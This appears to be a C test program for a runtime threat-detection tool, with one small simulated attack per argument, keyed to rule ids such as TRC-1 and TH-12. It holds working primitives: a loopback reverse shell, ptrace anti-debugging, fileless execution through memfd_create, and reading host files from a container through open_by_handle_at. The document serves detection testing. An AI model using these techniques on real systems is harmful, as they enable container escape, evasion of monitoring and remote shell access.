// SPDX-License-Identifier: Apache-2.0
/*
 * Attacks and loads, one per first argument, each as small as the real thing can
 * be. Static, so that it runs in any machine and any container.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static struct sockaddr_in local(const char *port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return a;
}

/* Takes connections and holds each until the other end is gone. Says "ready"
 * when it listens. */
static void listen_at(const char *port)
{
	struct sockaddr_in a = local(port);
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
	char buf[256];

	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(s, (void *)&a, sizeof(a)) || listen(s, 64))
		err(1, "listen on port %s", port);
	puts("ready");
	fflush(stdout);
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		int c = accept(s, NULL, NULL);

		if (c < 0)
			err(1, "accept");
		if (!fork()) {
			while (read(c, buf, sizeof(buf)) > 0)
				;
			_exit(0);
		}
		close(c);
	}
}

/* TRC-1: a reverse shell. */
static void reverse(const char *port)
{
	struct sockaddr_in a = local(port);
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (connect(s, (void *)&a, sizeof(a)))
		err(1, "connect to port %s", port);
	for (int fd = 0; fd <= 2; fd++)
		dup2(s, fd);
	execl("/bin/sh", "sh", "-c", "echo hello", NULL);
	_exit(127);
}

/* TRC-2: asks to be traced, so that nobody else can. */
static void traceme(void)
{
	if (ptrace(PTRACE_TRACEME, 0, 0, 0))
		err(1, "traceme");
}

/* TRC-5: executes a copy of a program that is in no file system. */
static void memfd(const char *program)
{
	char *argv[] = {"from-memory", NULL};
	int from = open(program, O_RDONLY), to = memfd_create("payload", MFD_CLOEXEC);
	struct stat st;

	if (from < 0 || to < 0 || fstat(from, &st))
		err(1, "open %s", program);
	if (sendfile(to, from, NULL, st.st_size) != st.st_size)
		err(1, "copy %s", program);
	fexecve(to, argv, environ);
	err(1, "execute from memory");
}

/* TH-12: reads a file of the host by the number of its file system's root, which is
 * always 2, from any file of that file system. */
static void by_handle(const char *volume, const char *path)
{
	struct {
		struct file_handle head;
		unsigned int inode, generation;
	} root = {{.handle_bytes = 8, .handle_type = 1}, 2, 0};
	char buf[4096];
	int at = open(volume, O_RDONLY), dir = open_by_handle_at(at, &root.head, O_RDONLY | O_DIRECTORY);
	int fd = dir < 0 ? -1 : openat(dir, path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));

	if (n < 0 || write(1, buf, n) != n)
		err(1, "%s: %d %d %d", path, at, dir, fd);
}

/* Opens and closes a file so many times. */
static void storm(const char *times, const char *path)
{
	for (long n = atol(times); n > 0; n--) {
		int fd = open(path, O_RDONLY);

		if (fd < 0)
			err(1, "open %s", path);
		close(fd);
	}
}

static void *execute(void *program)
{
	execl(program, "by-a-thread", NULL);
	err(1, "execute %s", (char *)program);
}

static void *sleep_on(void *unused)
{
	for (;;)
		pause();
	return unused;
}

/* A thread that is not the first executes a program, which ends all others. */
static void threads(char *program)
{
	pthread_t t;

	for (int i = 0; i < 3; i++)
		pthread_create(&t, NULL, sleep_on, NULL);
	pthread_create(&t, NULL, execute, program);
	sleep_on(NULL);
}

/* A child outlives its parent and executes a program then. */
static void orphan(const char *program)
{
	int parent = getpid();

	if (fork())
		_exit(0);
	while (getppid() == parent)
		usleep(1000);
	execl(program, "of-an-orphan", NULL);
	_exit(127);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "traceme") && argc == 2)
		traceme();
	else if (!strcmp(what, "listen") && argc == 3)
		listen_at(argv[2]);
	else if (!strcmp(what, "reverse") && argc == 3)
		reverse(argv[2]);
	else if (!strcmp(what, "memfd") && argc == 3)
		memfd(argv[2]);
	else if (!strcmp(what, "by-handle") && argc == 4)
		by_handle(argv[2], argv[3]);
	else if (!strcmp(what, "storm") && argc == 4)
		storm(argv[2], argv[3]);
	else if (!strcmp(what, "threads") && argc == 3)
		threads(argv[2]);
	else if (!strcmp(what, "orphan") && argc == 3)
		orphan(argv[2]);
	else
		errx(2, "usage: attack traceme | listen PORT | reverse PORT | memfd PROGRAM | by-handle VOLUME FILE | "
			"storm TIMES FILE | "
			"threads PROGRAM | orphan PROGRAM");
	return 0;
}
